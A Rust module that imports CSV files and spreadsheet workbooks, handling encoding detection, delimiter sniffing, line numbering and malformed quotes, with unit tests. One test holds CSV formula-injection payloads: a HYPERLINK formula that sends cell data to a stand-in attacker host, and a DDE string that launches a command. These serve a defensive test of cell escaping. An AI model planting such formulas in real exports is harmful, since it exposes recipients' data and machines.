//! A file people export, read as a table of text: CSV in the encodings spreadsheets and CRMs
//! write (UTF-8 with or without BOM, UTF-16 with BOM, Windows-1252), with comma, semicolon or tab;
//! or an `.xlsx`, `.xls` or `.ods` workbook through calamine. Every row knows where it starts, as
//! an editor numbers lines (or as the spreadsheet numbers rows), so errors point at it.
//!
//! A title row and blank rows above the header are skipped. An unbalanced quote is an error at
//! the line where the quoted field opened, never rows silently swallowed into one field.

pub use crate::rules::cells::spreadsheet_safe;
use crate::rules::cells::unescape_cell;
use std::io::Cursor;
use std::path::Path;

use calamine::{open_workbook_auto_from_rs, Data, Reader};

use crate::model::error::{Error, Result};

/// Files larger than this are refused before reading (a long-list of a million firms is ~200 MB).
pub const MAX_FILE_BYTES: u64 = 512 * 1024 * 1024;
/// A cell longer than this is refused (a description is a paragraph, not a book).
pub const MAX_CELL_CHARS: usize = 100_000;

/// One row of data, with the line (CSV) or row number (workbook) where it starts.
#[derive(Debug, Clone)]
pub struct Row {
    pub line: u64,
    pub cells: Vec<String>,
}

#[derive(Debug, Clone)]
pub struct Table {
    /// "UTF-8", "UTF-8 (BOM)", "UTF-16LE", "Windows-1252" or "Excel workbook (.xlsx)", …
    pub encoding: String,
    /// "comma", "semicolon", "tab", or "" for a workbook.
    pub delimiter: String,
    /// The sheets of a workbook (empty for CSV) and the one read.
    pub sheets: Vec<String>,
    pub sheet: Option<String>,
    /// Where the header is (line or row number).
    pub header_line: u64,
    pub headers: Vec<String>,
    pub rows: Vec<Row>,
}

/// Reads a user-chosen file: refuses what is not a regular file (a FIFO or a device would block
/// or never end) and what is too large, before reading a byte.
pub fn read_file(path: &Path) -> Result<Vec<u8>> {
    check_file(path)?;
    std::fs::read(path).map_err(|e| Error::io(format!("cannot read {}", path.display()), e))
}

/// The checks of [`read_file`], without reading: a regular file, not too large.
pub fn check_file(path: &Path) -> Result<()> {
    let meta = std::fs::metadata(path)
        .map_err(|e| Error::io(format!("cannot read {}", path.display()), e))?;
    if !meta.is_file() {
        return Err(Error::invalid(
            "file",
            format!(
                "{} is not a regular file (a folder, pipe or device); choose the exported file itself",
                path.display()
            ),
        ));
    }
    if meta.len() > MAX_FILE_BYTES {
        return Err(Error::invalid(
            "file",
            format!(
                "{} is {} MB; Allybook imports files up to {} MB: split it into smaller files",
                path.display(),
                meta.len() / (1024 * 1024),
                MAX_FILE_BYTES / (1024 * 1024)
            ),
        ));
    }
    Ok(())
}

/// Reads `bytes` as a workbook (by its signature) or as delimited text. `sheet` chooses a
/// workbook's sheet by name; by default the first with data.
pub fn read(bytes: &[u8], sheet: Option<&str>) -> Result<Table> {
    let is_zip = bytes.starts_with(b"PK\x03\x04");
    let is_cfb = bytes.starts_with(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
    if is_zip || is_cfb {
        read_workbook(bytes, sheet)
    } else {
        read_text(bytes)
    }
}

fn cell_text(d: &Data) -> String {
    match d {
        Data::Empty => String::new(),
        Data::String(s) => s.clone(),
        Data::Int(i) => i.to_string(),
        // Whole numbers without ".0"; others as the shortest exact decimal.
        Data::Float(f) if f.fract() == 0.0 && f.abs() < 9.0e15 => format!("{}", *f as i64),
        Data::Float(f) => f.to_string(),
        Data::Bool(b) => if *b { "TRUE" } else { "FALSE" }.into(),
        Data::DateTime(dt) => match dt.as_datetime() {
            Some(t) if t.time() == chrono::NaiveTime::MIN => {
                t.date().format("%Y-%m-%d").to_string()
            }
            Some(t) => t.format("%Y-%m-%dT%H:%M:%S").to_string(),
            None => dt.as_f64().to_string(),
        },
        Data::DateTimeIso(s) | Data::DurationIso(s) => s.clone(),
        Data::Error(_) => String::new(),
    }
}

fn read_workbook(bytes: &[u8], sheet: Option<&str>) -> Result<Table> {
    let mut wb = open_workbook_auto_from_rs(Cursor::new(bytes)).map_err(|e| {
        Error::invalid(
            "file",
            format!("this looks like a spreadsheet workbook but cannot be read: {e}. Open it in your spreadsheet and save it again, or save the sheet as CSV"),
        )
    })?;
    let kind = match &wb {
        calamine::Sheets::Xlsx(_) => "Excel workbook (.xlsx)",
        calamine::Sheets::Xlsb(_) => "Excel workbook (.xlsb)",
        calamine::Sheets::Xls(_) => "Excel workbook (.xls)",
        calamine::Sheets::Ods(_) => "OpenDocument spreadsheet (.ods)",
    };
    let sheets = wb.sheet_names().to_vec();
    let mut chosen = None;
    for name in &sheets {
        if sheet.is_some_and(|s| s != name) {
            continue;
        }
        let range = wb
            .worksheet_range(name)
            .map_err(|e| Error::invalid("sheet", format!("cannot read the sheet {name:?}: {e}")))?;
        if range.is_empty() && sheet.is_none() {
            continue;
        }
        chosen = Some((name.clone(), range));
        break;
    }
    let Some((name, range)) = chosen else {
        return Err(match sheet {
            Some(s) => Error::invalid(
                "sheet",
                format!(
                    "the workbook has no sheet {s:?}; its sheets are: {}",
                    sheets.join(", ")
                ),
            ),
            None => Error::invalid("file", "every sheet of the workbook is empty"),
        });
    };
    let first_row = range.start().map_or(0, |(r, _)| r as u64);
    let first_col = range.start().map_or(0, |(_, c)| c as usize);
    let mut rows: Vec<Row> = Vec::new();
    for (i, r) in range.rows().enumerate() {
        let mut cells: Vec<String> = vec![String::new(); first_col];
        cells.extend(r.iter().map(cell_text));
        rows.push(Row {
            line: first_row + i as u64 + 1,
            cells,
        });
    }
    let mut t = finish(rows, kind.into(), String::new())?;
    t.sheets = sheets;
    t.sheet = Some(name);
    Ok(t)
}

/// Decodes text: a BOM says UTF-8 or UTF-16; otherwise valid UTF-8 is UTF-8; a file that is not
/// UTF-8 at all is Windows-1252; a UTF-8 file with a stray bad byte is an error naming its line
/// (decoding the whole file as Windows-1252 would garble every accent in it).
fn decode(bytes: &[u8]) -> Result<(String, &'static str)> {
    for (bom, encoding, name) in [
        (&b"\xFF\xFE"[..], encoding_rs::UTF_16LE, "UTF-16LE"),
        (&b"\xFE\xFF"[..], encoding_rs::UTF_16BE, "UTF-16BE"),
    ] {
        if let Some(body) = bytes.strip_prefix(bom) {
            let (t, bad) = encoding.decode_without_bom_handling(body);
            return if bad {
                Err(Error::invalid("file", "the file says it is UTF-16 but has bytes that are not: save it again as CSV UTF-8"))
            } else {
                Ok((t.into_owned(), name))
            };
        }
    }
    if bytes.contains(&0) {
        return Err(Error::invalid(
            "file",
            "the file holds binary data, not text: choose a CSV or a workbook (.xlsx, .xls, .ods)",
        ));
    }
    let (body, bom) = match bytes.strip_prefix(b"\xEF\xBB\xBF") {
        Some(b) => (b, true),
        None => (bytes, false),
    };
    match std::str::from_utf8(body) {
        Ok(s) => Ok((s.to_string(), if bom { "UTF-8 (BOM)" } else { "UTF-8" })),
        Err(e) => {
            // Any well-formed multi-byte sequence before or after the bad byte means UTF-8.
            let has_utf8 = bom || body.utf8_chunks().any(|c| !c.valid().is_ascii());
            if has_utf8 {
                let at = e.valid_up_to();
                let line = 1 + body[..at].iter().filter(|&&b| b == b'\n').count();
                Err(Error::invalid(
                    "file",
                    format!(
                        "line {line}: a byte that is not UTF-8 (0x{:02X}) in a UTF-8 file; fix that character, or save the file again as CSV UTF-8",
                        body[at]
                    ),
                ))
            } else {
                let (text, _) = encoding_rs::WINDOWS_1252.decode_without_bom_handling(body);
                Ok((text.into_owned(), "Windows-1252"))
            }
        }
    }
}

/// The delimiter that splits the header line into the most fields (outside quotes). Title lines
/// above the header are looked past: the first 10 lines are counted and the busiest one decides.
fn sniff_delimiter(text: &str) -> u8 {
    let mut best = (b',', 0usize);
    let mut counts = [(b',', 0usize), (b';', 0), (b'\t', 0)];
    let mut quoted = false;
    let mut lines = 0;
    for c in text.bytes() {
        match c {
            b'"' => quoted = !quoted,
            b'\n' if !quoted => {
                for (d, n) in counts.iter_mut() {
                    if *n > best.1 {
                        best = (*d, *n);
                    }
                    *n = 0;
                }
                lines += 1;
                if lines >= 10 {
                    break;
                }
            }
            _ if !quoted => {
                for (d, n) in counts.iter_mut() {
                    if *d == c {
                        *n += 1;
                    }
                }
            }
            _ => {}
        }
    }
    for (d, n) in counts {
        if n > best.1 {
            best = (d, n);
        }
    }
    best.0
}

/// Byte offsets where each line starts ("\r\n", "\n" and a lone "\r" end a line).
fn line_starts(text: &str) -> Vec<usize> {
    let b = text.as_bytes();
    let mut starts = vec![0];
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\n' => starts.push(i + 1),
            b'\r' if b.get(i + 1) != Some(&b'\n') => starts.push(i + 1),
            _ => {}
        }
        i += 1;
    }
    starts
}

fn line_of(starts: &[usize], byte: usize) -> u64 {
    (starts.partition_point(|&s| s <= byte)) as u64
}

/// The line where a record starts: the CSV reader's position can point at the line break (or
/// blank lines) before it.
fn record_line(text: &[u8], starts: &[usize], mut byte: usize) -> u64 {
    while matches!(text.get(byte), Some(b'\r' | b'\n')) {
        byte += 1;
    }
    line_of(starts, byte)
}

/// Where a quoted field opens that is never closed, or closed before its field ends: quotes count only at the start of a field
/// (as CSV readers treat them), and `""` inside one is an escaped quote.
fn unclosed_quote(b: &[u8], delimiter: u8) -> Option<usize> {
    let mut i = 0;
    let mut at_field_start = true;
    while i < b.len() {
        let c = b[i];
        if at_field_start && c == b'"' {
            let open = i;
            i += 1;
            loop {
                match b.get(i) {
                    None => return Some(open),
                    Some(b'"') if b.get(i + 1) == Some(&b'"') => i += 2,
                    Some(b'"') => break,
                    Some(_) => i += 1,
                }
            }
            // A closing quote must end the field; text after it means the quote was not one.
            match b.get(i + 1) {
                None | Some(b'\n' | b'\r') => {}
                Some(&d) if d == delimiter => {}
                Some(_) => return Some(open),
            }
            at_field_start = false;
        } else {
            at_field_start = c == delimiter || c == b'\n' || c == b'\r';
        }
        i += 1;
    }
    None
}

fn read_text(bytes: &[u8]) -> Result<Table> {
    let (text, encoding) = decode(bytes)?;
    if text.contains('\0') {
        return Err(Error::invalid(
            "file",
            "the file holds binary data, not text: choose a CSV or a workbook (.xlsx, .xls, .ods)",
        ));
    }
    let delimiter = sniff_delimiter(&text);
    let starts = line_starts(&text);
    // An opening quote with no closing one swallows the rest of the file into one field.
    if let Some(at) = unclosed_quote(text.as_bytes(), delimiter) {
        return Err(Error::invalid(
            "file",
            format!(
                "line {}: a quoted field opens here and is not closed where the field ends; add or remove a quote (\") and import again",
                line_of(&starts, at)
            ),
        ));
    }
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .flexible(true)
        .has_headers(false)
        .from_reader(text.as_bytes());
    let mut rows = Vec::new();
    for rec in reader.records() {
        let rec = rec.map_err(|e| {
            let line = e
                .position()
                .map_or(0, |p| line_of(&starts, p.byte() as usize));
            Error::invalid("file", format!("line {line}: {e}"))
        })?;
        let line = rec.position().map_or(0, |p| {
            record_line(text.as_bytes(), &starts, p.byte() as usize)
        });
        rows.push(Row {
            line,
            cells: rec.iter().map(|c| unescape_cell(c).to_string()).collect(),
        });
    }
    let delim = match delimiter {
        b';' => "semicolon",
        b'\t' => "tab",
        _ => "comma",
    };
    let t = finish(rows, encoding.into(), delim.into())?;
    // A record spanning lines with the wrong number of fields is a quote closed in the wrong
    // place: report where it opened rather than import a merged row.
    for (i, r) in t.rows.iter().enumerate() {
        let next = t.rows.get(i + 1).map_or(starts.len() as u64, |n| n.line);
        let spans = next > r.line + 1 && r.cells.iter().any(|c| c.contains('\n'));
        if spans && r.cells.len() != t.headers.len() {
            return Err(Error::invalid(
                "file",
                format!(
                    "line {}: a quoted field opens here and runs to line {}; a quote (\") is probably missing or extra",
                    r.line,
                    next - 1
                ),
            ));
        }
    }
    Ok(t)
}

/// Finds the header (past title and blank rows), trims it, drops blank rows and checks sizes.
fn finish(mut rows: Vec<Row>, encoding: String, delimiter: String) -> Result<Table> {
    let filled = |r: &Row| r.cells.iter().filter(|c| !c.trim().is_empty()).count();
    let first = rows
        .iter()
        .position(|r| filled(r) > 0)
        .ok_or_else(|| Error::invalid("file", "the file is empty (no header line)"))?;
    // A title ("Trade fair 2026 — leads") sits alone on its row; the header has several cells.
    let header_at = rows
        .iter()
        .enumerate()
        .skip(first)
        .take(10)
        .find(|(_, r)| filled(r) >= 2)
        .map_or(first, |(i, _)| i);
    let header = rows[header_at].clone();
    let mut headers: Vec<String> = header
        .cells
        .iter()
        .map(|h| h.trim().trim_start_matches('\u{feff}').trim().to_string())
        .collect();
    while headers.last().is_some_and(|h| h.is_empty()) {
        headers.pop();
    }
    for (i, h) in headers.iter_mut().enumerate() {
        if h.is_empty() {
            *h = format!("Column {}", i + 1);
        }
    }
    let data: Vec<Row> = rows
        .drain(header_at + 1..)
        .filter(|r| filled(r) > 0)
        .collect();
    for r in &data {
        if let Some((col, _)) = r
            .cells
            .iter()
            .enumerate()
            .find(|(_, c)| c.chars().count() > MAX_CELL_CHARS)
        {
            return Err(Error::invalid(
                "file",
                format!(
                    "line {}, column {:?}: the value is longer than {MAX_CELL_CHARS} characters; shorten it",
                    r.line,
                    headers.get(col).cloned().unwrap_or_else(|| format!("Column {}", col + 1))
                ),
            ));
        }
    }
    Ok(Table {
        encoding,
        delimiter,
        sheets: Vec::new(),
        sheet: None,
        header_line: header.line,
        headers,
        rows: data,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_are_numbered_as_an_editor_shows_them_with_lf_or_crlf() {
        for nl in ["\n", "\r\n"] {
            let text = format!("name,city{nl}A,X{nl}\"B{nl}Street 2\",Y{nl}C,Z{nl}");
            let t = read(text.as_bytes(), None).expect("read");
            assert_eq!(t.header_line, 1);
            let lines: Vec<u64> = t.rows.iter().map(|r| r.line).collect();
            assert_eq!(lines, vec![2, 3, 5], "{nl:?}");
        }
    }

    #[test]
    fn an_unclosed_quote_is_reported_where_it_opens() {
        let e = read(b"name,city\nA,X\n\"B,Y\nC,Z\nD,W\n", None).expect_err("refused");
        assert!(e.to_string().contains("line 3"), "{e}");
        let e = read(b"name,city\nA,\"X\nB,\"Y\nC,Z\n", None).expect_err("refused");
        assert!(e.to_string().contains("line 2"), "{e}");
    }

    #[test]
    fn encodings_are_told_apart() {
        let mut utf16 = vec![0xFF, 0xFE];
        for u in "name;city\nMüller;Graz\n".encode_utf16() {
            utf16.extend(u.to_le_bytes());
        }
        let t = read(&utf16, None).expect("utf16");
        assert_eq!(t.encoding, "UTF-16LE");
        assert_eq!(t.rows[0].cells, vec!["Müller", "Graz"]);
        let t = read(b"name\nM\xfcller\n", None).expect("1252");
        assert_eq!(t.encoding, "Windows-1252");
        assert_eq!(t.rows[0].cells[0], "Müller");
        let e = read(
            "name\nMüller\nBad \u{1}".replace('\u{1}', "").as_bytes(),
            None,
        );
        assert!(e.is_ok());
        let mut mixed = "name\nMüller\nGr".as_bytes().to_vec();
        mixed.push(0xFC);
        mixed.extend(b"n\n");
        let e = read(&mixed, None).expect_err("bad byte in UTF-8");
        assert!(e.to_string().contains("line 3"), "{e}");
    }

    #[test]
    fn delimiters_are_sniffed_from_the_header_line() {
        assert_eq!(sniff_delimiter("a;b;c\n1,2;3;4"), b';');
        assert_eq!(sniff_delimiter("a\tb\n"), b'\t');
        assert_eq!(sniff_delimiter("\"x;y\",b,c\n"), b',');
        assert_eq!(sniff_delimiter("name\n"), b',');
        assert_eq!(sniff_delimiter("Title\nname;city;country\n"), b';');
    }

    #[test]
    fn formula_cells_are_written_as_text_and_read_back_exactly() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1)",
            "\tTab",
            "plain",
            "'quoted",
            "'=already",
        ] {
            let safe = spreadsheet_safe(cell);
            assert!(
                !safe.starts_with(crate::rules::cells::FORMULA_START),
                "{cell:?} → {safe:?}"
            );
            let mut w = csv::Writer::from_writer(Vec::new());
            w.write_record(["name", safe.as_ref()]).expect("write");
            let bytes = w.into_inner().expect("bytes");
            let t = read(&[b"h1,h2\n".as_slice(), &bytes].concat(), None).expect("read");
            assert_eq!(t.rows[0].cells[1], cell, "round trip of {cell:?}");
        }
    }

    #[test]
    fn a_title_row_above_the_header_is_skipped() {
        let t = read(b"Leads from the fair\n\nname,city\nA,X\n", None).expect("read");
        assert_eq!(t.headers, vec!["name", "city"]);
        assert_eq!(t.header_line, 3);
        assert_eq!(t.rows[0].line, 4);
    }
}
